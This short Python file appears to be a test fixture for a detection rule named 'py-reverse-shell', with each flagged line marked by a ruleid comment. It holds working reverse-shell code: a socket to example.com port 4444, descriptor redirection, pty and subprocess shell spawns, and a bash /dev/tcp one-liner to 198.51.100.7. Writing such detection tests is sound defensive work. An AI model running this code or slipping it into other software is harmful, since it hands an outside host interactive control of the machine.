import os
import pty
import socket
import subprocess

s = socket.socket()
s.connect(("example.com", 4444))
for fd in (0, 1, 2):
    # ruleid: py-reverse-shell
    os.dup2(s.fileno(), fd)
# ruleid: py-reverse-shell
pty.spawn("/bin/sh")
# ruleid: py-reverse-shell
subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
# ruleid: py-reverse-shell
os.system("bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'")
